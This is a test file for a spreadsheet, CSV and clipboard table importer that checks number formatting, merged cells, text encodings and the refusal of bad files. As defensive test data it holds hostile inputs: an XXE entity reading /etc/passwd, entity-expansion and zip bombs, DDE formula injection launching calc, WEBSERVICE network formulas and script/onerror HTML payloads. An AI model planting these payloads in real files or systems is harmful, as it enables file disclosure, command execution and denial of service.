import { strToU8, zipSync } from 'fflate';
import { expect, test } from 'vitest';
import { cellsOfRow } from '../../../src/domain/import/sourceTable.ts';
import { readTables } from '../../../src/wire/tables/fileTables.ts';
import { fileLimits } from '../../../src/wire/tables/fileLimits.ts';
import { lyingZip, workbookFiles, workbookOf } from './workbooks.ts';

const file = (bytes: Uint8Array, name = 'malekort.xlsx') => readTables({ kind: 'file', name, bytes });
const cellsOf = (bytes: Uint8Array, name?: string) => {
  const read = file(bytes, name);
  if (!read.ok) throw new Error(JSON.stringify(read.refusal));
  return read.tables[0]?.rows.map(cellsOfRow);
};
const refusalOf = (bytes: Uint8Array, name?: string) => {
  const read = file(bytes, name);
  return read.ok ? 'read' : read.refusal.kind;
};
const number = (place: string, value: number, look = 0) => `<c r="${place}" s="${look}"><v>${value}</v></c>`;

test('numbers are read as their cells show them: percent, decimals, thousands, words after them', () => {
  const formats = ['0.0%', '0%', '#,##0', '0" nye tiltak"', '0.00', '0;[Red](0)', 'dd/mm/yyyy', '# ?/?', '"kr "#,##0.00_-', '@'];
  const values = [0.085, 1, 138000, 6, 4.2, -3, 45000, 0.5, 1234.5, 7];
  const row = values.map((value, index) => number(`${String.fromCharCode(65 + index)}1`, value, index + 1)).join('');
  expect(cellsOf(workbookOf({ rows: `<row r="1">${row}</row>`, formats }))).toEqual([
    ['8,5 %', '100 %', '138 000', '6 nye tiltak', '4,20', '-3', '15.03.2023', '0,5', 'kr 1 234,50', '7'],
  ]);
});

test('merged cells stand in every place they cover, empty ones are empty, hidden sheets are passed over', () => {
  const texts =
    '<si><t>Effektive arbeidsprosesser</t></si><si><r><t>Sam</t></r><r><t xml:space="preserve">handling </t></r><rPh><t>nei</t></rPh></si>';
  const rows =
    '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="inlineStr"><is><t>Ikke målt</t></is></c></row><row r="3"><c r="B3" t="s"><v>1</v></c><c r="C3" t="b"><v>1</v></c><c r="D3" t="str"><v>Åpen &amp; l_x00E6_rende</v></c></row>';
  expect(
    cellsOf(workbookOf({ rows, texts, after: '<mergeCells><mergeCell ref="A1:A3"/><mergeCell ref="C1:D1"/></mergeCells>' })),
  ).toEqual([
    ['Effektive arbeidsprosesser', '', 'Ikke målt', 'Ikke målt'],
    ['Effektive arbeidsprosesser', '', '', ''],
    ['Effektive arbeidsprosesser', 'Samhandling ', 'ja', 'Åpen & lærende'],
  ]);
});

test('a formula’s value is read; without one the formula is shown, and an error is what it says', () => {
  const rows =
    '<row r="1"><c r="A1"><f>SUM(B1:B9)</f><v>12</v></c><c r="B1"><f>A1*2</f></c><c r="C1" t="e"><v>#DIV/0!</v></c></row>';
  expect(cellsOf(workbookOf({ rows }))).toEqual([['12', '=A1*2', '#DIV/0!']]);
});

test('text files are read in UTF-8, UTF-16 and Windows-1252, with semicolons, commas or tabs', () => {
  const lines = (mark: string) =>
    [
      ['Måleindikator', 'Krav', '2023'],
      ['Sykefravær', '8,5 %', '9,1 %'],
    ]
      .map((cells) => cells.map((cell) => `"${cell}"`).join(mark))
      .join('\r\n');
  const expected = [
    ['Måleindikator', 'Krav', '2023'],
    ['Sykefravær', '8,5 %', '9,1 %'],
  ];
  const latin = (text: string) => Uint8Array.from(text, (letter) => letter.charCodeAt(0));
  const wide = (text: string) =>
    new Uint8Array([0xff, 0xfe, ...[...text].flatMap((letter) => [letter.charCodeAt(0) & 255, letter.charCodeAt(0) >> 8])]);
  expect(cellsOf(strToU8(`\uFEFF${lines(';')}`), 'a.csv')).toEqual(expected);
  expect(cellsOf(latin(lines(';')), 'a.csv')).toEqual(expected);
  expect(cellsOf(strToU8(lines(',')), 'a.csv')).toEqual(expected);
  expect(cellsOf(wide(lines('\t')), 'a.txt')).toEqual(expected);
  expect(cellsOf(strToU8("Måleindikator;Krav;2023\r\nA;'-21 %;'=5"), 'a.csv')?.[1]).toEqual(['A', '-21 %', '=5']);
});

test.each([
  ['an empty file', new Uint8Array(), 'tom.xlsx', 'empty'],
  ['a PDF', strToU8('%PDF-1.7\n'), 'a.pdf', 'wrongType'],
  ['a picture', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 1, 2]), 'a.png', 'wrongType'],
  ['a program', strToU8('MZ\u0000\u0001'), 'a.xlsx', 'wrongType'],
  ['the old form of Excel', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'a.xls', 'oldExcel'],
  ['a workbook with a password', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'a.xlsx', 'locked'],
  ['text that says it is a workbook', strToU8('hei'), 'a.xlsx', 'broken'],
  ['a Word document', zipSync({ 'word/document.xml': strToU8('<w/>') }), 'a.docx', 'wrongType'],
  ['a ZIP of anything', zipSync({ 'bilde.jpg': strToU8('x') }), 'a.zip', 'wrongType'],
  ['a workbook with macros', workbookOf({ rows: '', more: { 'xl/vbaProject.bin': strToU8('x') } }), 'a.xlsm', 'macros'],
  ['a workbook cut short', workbookOf({ rows: '' }).subarray(0, 700), 'a.xlsx', 'broken'],
  ['one byte too much', new Uint8Array(fileLimits.bytes + 1), 'a.csv', 'tooLarge'],
])('%s is refused with a reason of its own', (_, bytes, name, kind) => {
  expect(refusalOf(bytes, name)).toBe(kind);
});

test.each([
  [
    'an entity from elsewhere',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row r="1"><c r="A1" t="str"><v>&e;</v></c></row></sheetData></worksheet>',
    'hostile',
  ],
  ['entities of entities', `<!DOCTYPE lolz [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><worksheet/>`, 'hostile'],
  ['elements within elements without end', '<a>'.repeat(100_000), 'hostile'],
  [
    'a row a million rows down',
    '<worksheet><sheetData><row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData></worksheet>',
    'tooManyCells',
  ],
  [
    'a merged cell over the whole sheet',
    '<worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>',
    'tooManyCells',
  ],
  [
    'a formula that calls another program',
    `<worksheet><sheetData><row r="1"><c r="A1"><f>cmd|'/C calc'!A0</f><v>1</v></c></row></sheetData></worksheet>`,
    'formula',
  ],
  [
    'a formula that asks the network',
    `<worksheet><sheetData><row r="1"><c r="A1"><f>WEBSERVICE("https://example.com/?"&amp;B1)</f><v>1</v></c></row></sheetData></worksheet>`,
    'formula',
  ],
])('a workbook with %s is refused', (_, sheet, kind) => {
  expect(refusalOf(workbookOf({ rows: '', sheet }))).toBe(kind);
});

test('a text file with a formula that calls another program is refused; one that is only text is not', () => {
  expect(refusalOf(strToU8("Måleindikator;Krav;2023\nA;=cmd|'/C calc'!A0;1"), 'a.csv')).toBe('formula');
  expect(refusalOf(strToU8('Måleindikator;Krav;2023\nA;@SUM(WEBSERVICE("x"));1'), 'a.csv')).toBe('formula');
  expect(refusalOf(strToU8('Måleindikator;Krav;2023\nA;=< 5;-21 %'), 'a.csv')).toBe('read');
});

test('R9: a bomb of 1000:1 is refused by its directory, before anything is unpacked', () => {
  const bomb = zipSync(
    { ...workbookFiles({ rows: '' }), 'xl/worksheets/sheet1.xml': new Uint8Array(64 * 1024 * 1024) },
    { level: 9 },
  );
  expect(bomb.length).toBeLessThan(80_000);
  expect(refusalOf(bomb)).toBe('tooMuchInside');
});

test('R9: a bomb whose directory lies is stopped where it said it would end', () => {
  const bomb = zipSync(
    { ...workbookFiles({ rows: '' }), 'xl/worksheets/sheet1.xml': new Uint8Array(40 * 1024 * 1024) },
    { level: 9 },
  );
  const begun = process.memoryUsage().arrayBuffers;
  expect(refusalOf(lyingZip(bomb, 'xl/worksheets/sheet1.xml', 5000))).toBe('hostile');
  expect(process.memoryUsage().arrayBuffers - begun).toBeLessThan(200 * 1024 * 1024);
});

test('R9: files that lie over one another are refused', () => {
  const one = workbookOf({ rows: '' });
  const view = new DataView(one.buffer, one.byteOffset);
  for (let at = 0; at + 46 < one.length; at += 1)
    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 20, one.length, true);
  expect(['hostile', 'broken']).toContain(refusalOf(one));
});

test('more files than any workbook has are refused', () => {
  const many = Object.fromEntries(Array.from({ length: 1200 }, (_, index) => [`xl/a${index}.xml`, new Uint8Array()]));
  expect(refusalOf(workbookOf({ rows: '', more: many }))).toBe('tooMuchInside');
});

test('a table on the clipboard is read from its HTML: spans, pictures’ texts, footnotes; scripts are not', () => {
  const html = `<html><head><title>x</title></head><body><h2>Fokusomr&aring;de brukere</h2><table><tr><th rowspan="2">Måleindikator</th><th rowspan=2>Krav</th><th colspan="2">Resultat</th><th rowspan="2">Endring</th></tr>
    <tr><th>2016</th><th>2017</th></tr><tr><td>Sykefravær<sup>1)</sup><script>alert(1)</script></td><td>&lt; 8,5&nbsp;%</td><td colspan="2">Ikke målt</td><td><img alt="Strek, akseptabelt resultat" src="x" onerror="alert(1)"></td></tr></table><p>Etterpå</p></body></html>`;
  const read = readTables({ kind: 'paste', text: 'uten tabell', html });
  expect(read.ok && read.tables[0]?.rows.map(cellsOfRow)).toEqual([
    ['Fokusområde brukere'],
    ['Måleindikator', 'Krav', 'Resultat', 'Resultat', 'Endring'],
    ['Måleindikator', 'Krav', '2016', '2017', 'Endring'],
    ['Sykefravær¹⁾', '< 8,5\u00A0%', 'Ikke målt', 'Ikke målt', 'Strek, akseptabelt resultat'],
    ['Etterpå'],
  ]);
});
